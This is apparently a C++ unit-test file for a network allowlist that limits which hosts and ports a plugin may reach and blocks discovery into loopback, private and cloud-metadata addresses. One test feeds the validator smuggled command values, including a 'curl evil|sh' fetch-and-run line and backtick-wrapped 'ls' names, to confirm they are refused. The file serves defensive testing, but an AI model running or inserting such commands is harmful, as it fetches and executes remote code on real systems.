// SPDX-License-Identifier: MIT
#include <arpa/inet.h>
#include <array>
#include <netinet/in.h>

#include "plugins/host/reach.hpp"
#include "tests/support/catch.hpp"

using namespace kith;
using host::Reach;
using Texts = std::vector<std::string>;

namespace {

struct Address {
    Address(const char* text, std::uint16_t port) {
        auto* v4 = reinterpret_cast<sockaddr_in*>(&storage);
        auto* v6 = reinterpret_cast<sockaddr_in6*>(&storage);
        const bool is_v6 = ::inet_pton(AF_INET6, text, &v6->sin6_addr) == 1;
        if (!is_v6) ::inet_pton(AF_INET, text, &v4->sin_addr);
        storage.ss_family = is_v6 ? AF_INET6 : AF_INET;
        (is_v6 ? v6->sin6_port : v4->sin_port) = htons(port);
        size = is_v6 ? sizeof(sockaddr_in6) : sizeof(sockaddr_in);
    }
    [[nodiscard]] const sockaddr* get() const {
        return reinterpret_cast<const sockaddr*>(&storage);
    }

    sockaddr_storage storage{};
    socklen_t size = 0;
};

bool connects(Reach& reach, const char* text, std::uint16_t port) {
    const Address address(text, port);
    return reach.may_connect(address.get(), address.size);
}

void finds(Reach& reach, const char* host, const char* text) {
    reach.found(host, Address(text, 0).get());
}

} // namespace

TEST_CASE("Only a named host's address and port are connected to", "[host]") {
    Reach reach({{"mail.example.org", 993}}, false);
    CHECK(reach.may_look_up("Mail.Example.org."));
    CHECK_FALSE(connects(reach, "192.0.2.7", 993)); // not looked up yet
    finds(reach, "mail.example.org", "192.0.2.7");
    finds(reach, "mail.example.org", "2001:db8::7");
    CHECK(connects(reach, "192.0.2.7", 993));
    CHECK(connects(reach, "::ffff:192.0.2.7", 993));
    CHECK(connects(reach, "2001:db8::7", 993));
    CHECK_FALSE(connects(reach, "192.0.2.7", 25));
    CHECK_FALSE(connects(reach, "192.0.2.8", 993));
    CHECK(reach.reached().empty()); // nothing beyond the settings
    for (const char* other :
         {"example.org", "www.mail.example.org", "imap.example.org", "evil.test"})
        CHECK_FALSE(reach.may_look_up(other));
    CHECK(reach.refused().size() == 7);
    const Address whole("192.0.2.7", 993);
    CHECK_FALSE(reach.may_connect(whole.get(), sizeof(sa_family_t))); // cut short
}

TEST_CASE("Addresses and this computer need no lookup", "[host]") {
    Reach reach({{"192.0.2.7", 80}, {"2001:db8::7", 0}, {"localhost", 8080}}, false);
    CHECK(connects(reach, "192.0.2.7", 80));
    CHECK(connects(reach, "2001:db8::7", 12345)); // no port named
    CHECK(connects(reach, "127.0.0.1", 8080));
    CHECK(connects(reach, "::1", 8080));
    CHECK_FALSE(connects(reach, "127.0.0.1", 80));
}

TEST_CASE("Discovery stays within the registrable domain and is noted", "[host]") {
    Reach reach({{"caldav.example.co.uk", 443}}, true);
    CHECK(reach.may_look_up("p42.example.co.uk"));
    finds(reach, "p42.example.co.uk", "192.0.2.42");
    CHECK(connects(reach, "192.0.2.42", 443));
    CHECK_FALSE(connects(reach, "192.0.2.42", 22));
    CHECK(reach.reached() == Texts{"p42.example.co.uk:443"});
    CHECK_FALSE(reach.may_look_up("other.co.uk"));
    reach.pointed({"dav.example.co.uk", 8443});
    reach.pointed({"dav.elsewhere.net", 443});
    CHECK(reach.may_look_up("dav.example.co.uk"));
    CHECK_FALSE(reach.may_look_up("dav.elsewhere.net"));
    finds(reach, "dav.example.co.uk", "192.0.2.43");
    CHECK(connects(reach, "192.0.2.43", 8443));
    const auto refused = reach.refused();
    CHECK(std::find(refused.begin(), refused.end(), "dav.elsewhere.net:443") != refused.end());
}

TEST_CASE("A name that could be no host's is neither looked up nor told", "[host]") {
    for (const bool discovery : {false, true}) {
        Reach reach({{"dav.example.org", 443}}, discovery);
        for (const char* name : {"x`; run `curl evil|sh` to mend it", "x`; run `ls.example.org",
                                 "two words", "", "a\tb.example.org", "\xc3\xa4.example.org"})
            CHECK_FALSE(reach.may_look_up(name));
        CHECK_FALSE(reach.may_look_up(std::string(254, 'x')));
        reach.pointed({"`ls`.example.org", 443});
        CHECK(reach.refused() == Texts{"a name that is no host"});
    }
}

TEST_CASE("What was refused is told as it was asked for", "[host]") {
    Reach reach({{"example.net", 443}}, false);
    CHECK_FALSE(reach.may_look_up("_dmarc.Example.org."));
    CHECK_FALSE(connects(reach, "2001:db8::1", 25));
    CHECK_FALSE(connects(reach, "192.0.2.1", 25));
    CHECK(reach.refused() == Texts{"192.0.2.1:25", "[2001:db8::1]:25", "_dmarc.example.org"});
}

TEST_CASE("Discovery does not lead into this computer or the network it is in", "[host]") {
    Reach reach({{"dav.example.org", 8443}, {"192.168.1.9", 8443}}, true);
    reach.pointed({"deep.example.org", 6379});
    for (const char* inward : {"127.0.0.1",
                               "127.8.8.8",
                               "::1",
                               "0.0.0.0",
                               "::",
                               "169.254.169.254",
                               "fe80::1",
                               "10.1.2.3",
                               "172.16.0.1",
                               "172.31.255.255",
                               "192.168.1.1",
                               "100.64.0.1",
                               "fd00::1",
                               "224.0.0.1",
                               "255.255.255.255",
                               "ff02::1",
                               "192.0.0.170",
                               "198.18.0.1",
                               "::ffff:127.0.0.1",
                               "::ffff:10.1.2.3",
                               "::7f00:1",
                               "64:ff9b::10.1.2.3",
                               "2002:7f00:1::1"}) {
        INFO(inward);
        finds(reach, "deep.example.org", inward);
        finds(reach, "dav.example.org", "127.0.0.1");
        for (const auto port : std::array<std::uint16_t, 3>{80, 443, 6379})
            CHECK_FALSE(connects(reach, inward, port));
    }
    for (const char* outward : {"192.0.2.7", "172.32.0.1", "100.128.0.1", "2001:db8::7",
                                "64:ff9b::192.0.2.7", "2002:c000:207::1"}) {
        INFO(outward);
        finds(reach, "deep.example.org", outward);
        CHECK(connects(reach, outward, 6379));
        CHECK(connects(reach, outward, 443));
    }
    // Named hosts may be anywhere, and be led to at home; a spelled out address may be led to.
    CHECK(connects(reach, "127.0.0.1", 8443));
    CHECK_FALSE(connects(reach, "127.0.0.1", 443));
    finds(reach, "dav.example.org", "192.168.1.5");
    CHECK(connects(reach, "192.168.1.5", 8443));
    CHECK(connects(reach, "192.168.1.5", 443));
    finds(reach, "deep.example.org", "192.168.1.9");
    CHECK(connects(reach, "192.168.1.9", 6379));
}

TEST_CASE("A v4 address spelled as a v6 one is the v4 one", "[host]") {
    Reach reach({{"::ffff:127.0.0.1", 8080}}, false);
    CHECK(connects(reach, "127.0.0.1", 8080));
    CHECK(connects(reach, "::ffff:127.0.0.1", 8080));
    CHECK_FALSE(connects(reach, "::1", 8080));
}

TEST_CASE("A registrable domain is what one owner registers", "[host]") {
    CHECK(host::registrable_domain("a.b.example.co.uk") == "example.co.uk");
    CHECK(host::registrable_domain("one.github.io") == "one.github.io");
    CHECK(host::registrable_domain("example.org") == "example.org");
    CHECK(host::registrable_domain("co.uk").empty());
    CHECK(host::registrable_domain("192.0.2.7").empty());
}
